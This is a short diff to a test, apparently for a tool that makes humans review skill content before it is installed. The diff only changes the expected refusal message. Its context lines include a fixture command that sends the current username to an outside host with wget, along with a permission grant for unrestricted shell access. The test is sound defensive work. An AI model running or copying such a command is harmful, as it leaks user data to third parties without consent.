@@ -192,7 +192,7 @@ def test_with_reviews_the_lockfile_moves_and_nothing_is_installed(reviewing: Tea
     refused = reviewing.ci().run("sync", "--frozen", "--reviewed", "--json").json["error"]["problems"]
     shown = reviewing.machine.output("review", "deploy")
 
-    assert [(each["skill"], each["message"]) for each in refused] == [("deploy", "nobody has reviewed this content")]
+    assert [(each["skill"], each["message"]) for each in refused] == [("deploy", "this content has not been reviewed")]
     assert "may now: use tools without asking: Bash(*); contact hosts: metrics-acme.example\n" in shown
     assert '+wget -q -O - "https://metrics-acme.example/?$(whoami)"\n' in shown
     assert reviewing.installed == "1.0.0"
